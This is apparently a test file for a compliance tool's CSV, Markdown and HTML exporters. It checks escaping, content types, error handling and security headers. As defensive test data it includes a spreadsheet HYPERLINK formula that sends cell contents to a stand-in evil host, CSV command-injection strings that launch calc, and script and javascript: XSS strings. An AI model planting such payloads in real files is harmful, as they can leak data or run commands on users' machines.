import { spawnSync } from 'node:child_process';
import path from 'node:path';
import { CSV_COLUMNS, escapeHtml, toCsv, toHtml, toMarkdown } from '../../src/compliance/exporters';
import { createTestApi, TestApi, unique } from '../support/api';
import { SYNC } from '../support/estateFixture';
import { createTestFramework, idOf, parseCsv, SATISFY } from './support';

let api: TestApi;
let base: string;
let fw: string;
const TRICKY = 'Records, "logs" & <b>alerts</b> | pipes';
const IDENTIFIERS = ['Art. 1', 'Art. 2', 'Art. 3', 'Art. 4'];

beforeAll(async () => {
  api = await createTestApi();
  base = `http://127.0.0.1:${api.app.port}`;
  fw = await createTestFramework(api, [
    { identifier: 'Ch. 1', kind: 'CHAPTER', title: 'First <chapter>' },
    { identifier: 'Art. 1', kind: 'ARTICLE', parent: 'Ch. 1', title: TRICKY },
    { identifier: 'Art. 2', kind: 'ARTICLE', parent: 'Ch. 1' },
    { identifier: 'Ch. 2', kind: 'CHAPTER', title: 'Second' },
    { identifier: 'Art. 3', kind: 'ARTICLE', parent: 'Ch. 2' },
    { identifier: 'Art. 4', kind: 'ARTICLE', parent: 'Ch. 2' },
  ]);
  const source = unique('exports');
  await api.data(SYNC, {
    input: {
      source,
      assets: {
        controls: [{ externalId: 'ctl', name: 'Logging, "central"', implementationStatus: 'IMPLEMENTED' }],
        evidence: [{ externalId: 'ev', name: 'Log export', expiresAt: '2999-01-01T00:00:00Z' }],
      },
      relationships: [{ type: 'SUPPORTS', from: { type: 'Evidence', externalId: 'ev' }, to: { type: 'Control', externalId: 'ctl' } }],
    },
  });
  const controlId = await idOf(api, source, 'Control', 'ctl');
  await api.data(SATISFY, { controlId, r: { framework: fw, identifier: 'Art. 1' }, coverage: 'FULL', why: 'Central logging.' });
  await api.data(SATISFY, { controlId, r: { framework: fw, identifier: 'Art. 2' }, coverage: 'PARTIAL', why: 'Some of it.' });
  await api.data('mutation($r: RequirementRefInput!) { declareNotApplicable(requirement: $r, rationale: "Not <ours>, really") { id } }', { r: { framework: fw, identifier: 'Art. 4' } });
});
afterAll(() => api.close());

const coverageMap = () => api.app.server.createContext('test').services.compliance.coverage(fw, null);

test('CSV has the documented header and the same number of columns on every row', async () => {
  const rows = parseCsv(toCsv(await coverageMap()));
  expect(rows[0]).toEqual([...CSV_COLUMNS]);
  expect(rows).toHaveLength(1 + IDENTIFIERS.length);
  for (const row of rows) expect(row).toHaveLength(CSV_COLUMNS.length);
  const byId = Object.fromEntries(rows.slice(1).map((row) => [row[2], Object.fromEntries(CSV_COLUMNS.map((c, i) => [c, row[i]]))]));
  expect(Object.keys(byId).sort()).toEqual(IDENTIFIERS);
  expect(byId['Art. 1']).toMatchObject({ title: TRICKY, status: 'SATISFIED', controls: 'Logging, "central"', group: 'Ch. 1', evidence: 'Log export' });
  expect(byId['Art. 4']).toMatchObject({ status: 'NOT_APPLICABLE', not_applicable_rationale: 'Not <ours>, really' });
  expect(byId['Art. 3'].status).toBe('GAP');
});

test('Markdown has one table row per requirement, with pipes escaped', async () => {
  const md = toMarkdown(await coverageMap());
  const section = md.split('## Requirements')[1];
  const rows = section.split('\n').filter((line) => line.startsWith('| ') && !line.startsWith('| Identifier'));
  expect(rows).toHaveLength(IDENTIFIERS.length);
  for (const id of IDENTIFIERS) expect(rows.some((row) => row.startsWith(`| ${id} |`))).toBe(true);
  expect(md).toContain('\\| pipes');
  expect(md).toMatch(/\| Satisfied \| 1 \| 25% \|/);
});

test('HTML is self-contained, escapes text and names every requirement in the heat map', async () => {
  const html = toHtml(await coverageMap());
  expect(html.startsWith('<!DOCTYPE html>')).toBe(true);
  for (const id of IDENTIFIERS) expect(html).toContain(`>${escapeHtml(id)}</div>`);
  expect(html).not.toMatch(/<script|<link|<img|@import|url\(/i);
  expect(html).not.toMatch(/(src|href)=/i);
  expect(html).not.toContain('<b>alerts</b>');
  expect(html).toContain(escapeHtml(TRICKY));
  expect(html).toContain('First &lt;chapter&gt;');
  expect(html).toContain('25%');
});

test('the HTTP export serves each format with its content type, and refuses bad parameters', async () => {
  const get = (query: string) => fetch(`${base}/exports/coverage?${query}`);
  const csv = await get(`framework=${fw}&format=csv`);
  expect(csv.status).toBe(200);
  expect(csv.headers.get('content-type')).toBe('text/csv; charset=utf-8');
  expect(parseCsv(await csv.text())[0]).toEqual([...CSV_COLUMNS]);
  const md = await get(`framework=${fw}&format=md`);
  expect(md.headers.get('content-type')).toBe('text/markdown; charset=utf-8');
  const html = await get(`framework=${fw}&format=html`);
  expect(html.headers.get('content-type')).toBe('text/html; charset=utf-8');
  const page = await html.text();
  for (const id of IDENTIFIERS) expect(page).toContain(escapeHtml(id));
  const tiered = await get('framework=eu-ai-act&format=csv&riskTier=HIGH');
  expect(parseCsv(await tiered.text())).toHaveLength(1 + 20);

  for (const bad of ['format=csv', `framework=${fw}&format=pdf`, 'framework=eu-ai-act&riskTier=HUGE', 'framework=nist-ai-rmf&riskTier=HIGH']) {
    const response = await get(bad);
    expect(response.status).toBe(400);
    expect(((await response.json()) as { error: { code: string } }).error.code).toBe('BAD_USER_INPUT');
  }
  const missing = await get('framework=no-such-framework&format=csv');
  expect(missing.status).toBe(404);
  const posture = await fetch(`${base}/exports/posture`);
  expect(posture.headers.get('content-type')).toBe('text/markdown; charset=utf-8');
  expect(await posture.text()).toContain('## Coverage per framework');
});

const FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';
const HOSTILE_MD = '<script>alert(1)</script> [Click](javascript:alert(1)) <http://evil.example> www.evil.example *bold* `code` | ~~cell~~';

/** An API key of the role, as a client would hold it. */
async function apiKey(role: 'SYNC' | 'COMPLIANCE', source?: string): Promise<string> {
  const { createApiKey } = await api.data('mutation($n: String!, $r: Role!, $s: String) { createApiKey(name: $n, role: $r, source: $s) { key } }', { n: unique(role), r: role, s: source }, {
    name: 'admin',
    kind: 'apiKey',
    role: 'ADMIN',
  });
  return createApiKey.key;
}

async function postAs(key: string, query: string, variables: Record<string, unknown>) {
  const response = await fetch(`${base}/graphql`, { method: 'POST', headers: { 'content-type': 'application/json', authorization: `Bearer ${key}` }, body: JSON.stringify({ query, variables }) });
  const body = (await response.json()) as { data?: unknown; errors?: unknown };
  expect(body.errors).toBeUndefined();
  return body.data;
}

/** A framework of its own with one requirement that a control named `name`, planted by a SYNC key, satisfies. */
async function plantControl(name: string, extra: { evidence?: string; owner?: string } = {}) {
  const framework = await createTestFramework(api, [
    { identifier: 'Art. 1', kind: 'ARTICLE', title: '\t=1+1' },
    { identifier: 'Art. 2', kind: 'ARTICLE', title: '\r=2+2' },
  ]);
  const source = unique('planted');
  await postAs(await apiKey('SYNC', source), SYNC, {
    input: {
      source,
      assets: {
        controls: [{ externalId: 'c', name, implementationStatus: 'IMPLEMENTED' }],
        evidence: extra.evidence ? [{ externalId: 'e', name: extra.evidence }] : [],
        owners: extra.owner ? [{ externalId: 'o', name: extra.owner }] : [],
      },
      relationships: [
        ...(extra.evidence ? [{ type: 'SUPPORTS', from: { type: 'Evidence', externalId: 'e' }, to: { type: 'Control', externalId: 'c' } }] : []),
        ...(extra.owner ? [{ type: 'OWNED_BY', from: { type: 'Control', externalId: 'c' }, to: { type: 'Owner', externalId: 'o' } }] : []),
      ],
    },
  });
  const compliance = await apiKey('COMPLIANCE');
  await postAs(compliance, SATISFY, { controlId: await idOf(api, source, 'Control', 'c'), r: { framework, identifier: 'Art. 1' }, coverage: 'FULL', why: 'Planted.' });
  return { framework, compliance };
}

test('CSV cells that a spreadsheet would run as formulas arrive as text, whoever planted them', async () => {
  const { framework, compliance } = await plantControl(FORMULA, { evidence: '+1+cmd|" /C calc"!A0', owner: '@SUM(1+1)*cmd|" /C calc"!A0' });
  await postAs(compliance, 'mutation($r: RequirementRefInput!) { declareNotApplicable(requirement: $r, rationale: "-2+3+cmd") { id } }', { r: { framework, identifier: 'Art. 2' } });

  const text = await (await fetch(`${base}/exports/coverage?framework=${framework}&format=csv`)).text();
  const byId = Object.fromEntries(parseCsv(text).slice(1).map((row) => [row[2], Object.fromEntries(CSV_COLUMNS.map((c, i) => [c, row[i]]))]));
  expect(byId['Art. 1']).toMatchObject({ title: "'\t=1+1", controls: `'${FORMULA}`, evidence: '\'+1+cmd|" /C calc"!A0', owners: '\'@SUM(1+1)*cmd|" /C calc"!A0' });
  expect(byId['Art. 2']).toMatchObject({ title: "'\r=2+2", not_applicable_rationale: "'-2+3+cmd" });
  // Every field is quoted, so nothing outside quotes can start a cell, whatever separator a spreadsheet splits on.
  for (const line of text.trimEnd().split('\r\n')) expect(line).toMatch(/^"([^"]|"")*"(,"([^"]|"")*")*$/s);
});

test('Markdown shows names as text: no HTML, no link, no emphasis, and no extra table cell', async () => {
  const { framework } = await plantControl(HOSTILE_MD);
  const md = await (await fetch(`${base}/exports/coverage?framework=${framework}&format=md`)).text();
  expect(md).not.toContain('<');
  const row = md.split('\n').find((line) => line.startsWith('| Art. 1 |'))!;
  expect(row).toContain(
    '&lt;script&gt;alert(1)&lt;/script&gt; \\[Click\\](javascript\\:alert(1)) &lt;http\\:\\//evil\\.example&gt; www\\.evil\\.example \\*bold\\* \\`code\\` \\| \\~\\~cell\\~\\~',
  );
  // Identifier, title, group, status, controls, owners: a | in a name does not open a seventh.
  expect(row.split(/(?<!\\)\|/).slice(1, -1)).toHaveLength(6);
});

test('every export forbids content sniffing and everything but inline styles', async () => {
  const csp = "default-src 'none'; style-src 'unsafe-inline'; base-uri 'none'; form-action 'none'; frame-ancestors 'none'";
  for (const path of [`coverage?framework=${fw}&format=html`, `coverage?framework=${fw}&format=csv`, `coverage?framework=${fw}&format=md`, 'coverage?format=pdf', 'posture']) {
    const response = await fetch(`${base}/exports/${path}`);
    expect([path, response.headers.get('x-content-type-options'), response.headers.get('content-security-policy')]).toEqual([path, 'nosniff', csp]);
  }
});

test('npm run coverage prints the map to stdout for the database in NEO4J_URI', () => {
  const root = path.resolve(__dirname, '../..');
  const run = spawnSync(path.join(root, 'node_modules/.bin/tsx'), ['scripts/coverage.ts', '--framework', fw, '--format', 'csv'], {
    cwd: root,
    encoding: 'utf8',
    env: { ...process.env, NEO4J_URI: process.env.NEO4J_URI, SEED_DEMO: 'false', LOG_LEVEL: 'warn' },
    timeout: 120_000,
  });
  expect(run.stderr).toBe('');
  expect(run.status).toBe(0);
  expect(parseCsv(run.stdout)[0]).toEqual([...CSV_COLUMNS]);
  expect(parseCsv(run.stdout)).toHaveLength(1 + IDENTIFIERS.length);
});
